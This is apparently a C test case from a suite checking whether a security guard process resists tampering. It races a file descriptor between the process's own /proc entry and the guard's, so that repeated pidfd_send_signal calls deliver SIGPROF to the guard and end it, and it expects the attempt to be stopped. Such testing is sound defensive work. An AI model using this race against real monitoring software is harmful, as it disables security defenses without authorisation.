/* trick: the descriptor becomes the guard's between check and use, 3000 times
 * act: guard
 * attack: T1562.001
 * expect: stopped
 * needs: pidfd
 */
#include "bypass.h"

#include <pthread.h>

static volatile int number = 20;

static void *swap(void *path) {
  int mine = open("/proc/self", O_RDONLY | O_DIRECTORY), other = open(path, O_RDONLY | O_DIRECTORY);
  for (;;) {
    dup2(mine, number);
    dup2(other, number);
  }
  return NULL;
}

int main(void) {
  char path[64];
  pid_t guard = find_guard();
  pthread_t thread;
  snprintf(path, sizeof path, "/proc/%d", guard);
  dup2(open("/proc/self", O_RDONLY | O_DIRECTORY), number);
  pthread_create(&thread, NULL, swap, path);
  signal(SIGPROF, SIG_IGN); /* ends whoever does not ignore it */
  nap(20);
  for (int i = 0; i < 3000 && is_up(guard); i++) {
    has(syscall(424 /* pidfd_send_signal */, number, SIGPROF, NULL, 0));
    if (i % 10 == 0) sched_yield();
  }
  hurt_or_refused(guard, is_up(guard) ? EPERM : 0);
}
